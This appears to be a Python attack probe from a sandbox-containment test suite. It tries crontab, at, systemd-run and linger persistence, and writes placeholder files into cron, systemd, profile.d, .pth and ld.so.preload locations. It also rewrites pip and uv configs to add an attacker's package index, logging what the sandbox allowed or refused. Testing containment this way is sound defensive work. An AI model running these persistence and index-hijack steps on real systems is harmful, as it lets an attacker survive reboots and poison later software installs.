"""Tries to have itself run later: crontab, at, a lingering user manager, a unit, a profile."""

import os
import subprocess

COMMANDS = (
    ("crontab", "-"),
    ("at", "now + 1 minute"),
    ("batch",),
    ("loginctl", "enable-linger"),
    ("systemd-run", "--user", "--on-active=1", "/bin/true"),
    ("systemd-run", "--on-active=1", "/bin/true"),
    ("systemctl", "--user", "daemon-reload"),
)
FILES = (
    *("/etc/cron.d/evil", "/var/spool/cron/crontabs/evil", "/var/spool/cron/evil"),
    *("/etc/systemd/system/evil-later.service", "/run/systemd/system/evil-later.service"),
    *("/etc/profile.d/evil.sh", "/var/lib/systemd/linger/evil", "/usr/local/bin/python3"),
    *("/usr/local/lib/python3.11/dist-packages/evil.pth", "/etc/ld.so.preload"),
    *("/usr/local/lib/python3.13/dist-packages/evil.pth", "/etc/uv/evil.toml"),
)


def attack(report):
    for command in COMMANDS:
        try:
            done = subprocess.run(
                command, input=b"* * * * * /bin/true\n", capture_output=True, timeout=5
            )
            name = " ".join(command)
            if done.returncode == 0:
                report["did"].append(name)
            else:
                report["refused"][name] = done.stderr.decode(errors="replace")[-200:]
        except (OSError, subprocess.TimeoutExpired) as error:
            report["refused"][" ".join(command)] = str(error)
    for path in FILES:
        try:
            with open(path, "x") as file:
                file.write("evil")
            report["did"].append(path)
        except OSError as error:
            report["refused"][path] = str(error)
    # What a later build of any app reads: an index of the attacker's.
    home = os.environ.get("HOME", "/nonexistent")
    settings = {
        ".config/uv/uv.toml": f'extra-index-url = ["{INDEX}"]\n',  # noqa: F821 - given
        ".config/pip/pip.conf": f"[global]\nextra-index-url = {INDEX}\n",  # noqa: F821
    }
    for name, text in settings.items():
        path = os.path.join(home, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(text)
            report["did"].append(path)
        except OSError as error:
            report["refused"][path] = str(error)
